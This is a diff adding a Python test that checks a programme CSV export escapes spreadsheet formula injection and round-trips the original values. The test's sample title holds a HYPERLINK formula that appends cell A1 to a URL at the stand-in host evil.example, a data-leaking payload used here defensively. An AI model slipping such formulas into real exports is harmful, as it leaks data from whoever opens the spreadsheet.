@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import csv
 import io
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -91,3 +92,23 @@ def test_columns_may_come_in_any_order(tmp_path: Path) -> None:
     assert (event.code, event.title) == ("K9", {"sv": "Kör"})
     assert event.starts_at == datetime(2027, 5, 13, 16, 0, tzinfo=UTC)
     assert event.venue_key is None and event.capacity is None
+
+
+async def test_formulas_in_an_export_are_text_in_a_spreadsheet_and_come_back_unchanged(
+    store: Store, tmp_path: Path
+) -> None:
+    await store.programme.apply(load_programme_file(SCHEDULE), NOW)
+    snapshot = await store.programme.snapshot()
+    assert snapshot is not None
+    hostile = {"sv": '=HYPERLINK("http://evil.example/?"&A1;"Klicka")', "en": "-|pipe+and @at"}
+    first = snapshot.events[0].model_copy(update={"title": hostile, "organisation": "@föreningen"})
+    exported = programme_csv(replace(snapshot, events=[first, *snapshot.events[1:]]))
+
+    row = next(csv.DictReader(io.StringIO(exported)))
+    assert row["title_sv"].startswith("'="), "a spreadsheet shows it as text"
+    assert row["title_en"] == "'-\\|pipe+and @at"
+    assert row["organisation"] == "'@föreningen"
+    path = tmp_path / "export.csv"
+    path.write_text(exported, encoding="utf-8")
+    (back, *_) = load_programme_file(path).events
+    assert back.title == hostile and back.organisation == "@föreningen"
